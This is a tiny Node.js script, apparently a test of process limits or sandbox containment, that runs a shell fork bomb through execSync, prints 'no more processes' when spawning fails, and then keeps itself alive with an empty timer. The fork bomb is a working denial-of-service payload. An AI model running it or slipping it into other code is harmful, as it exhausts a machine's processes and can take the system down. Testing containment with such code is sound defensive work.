import { execSync } from 'node:child_process'

try { execSync('bomb() { sleep 60 & bomb | bomb & wait; }; bomb MARK') } catch { console.log('no more processes') }
setInterval(() => {}, 1000)
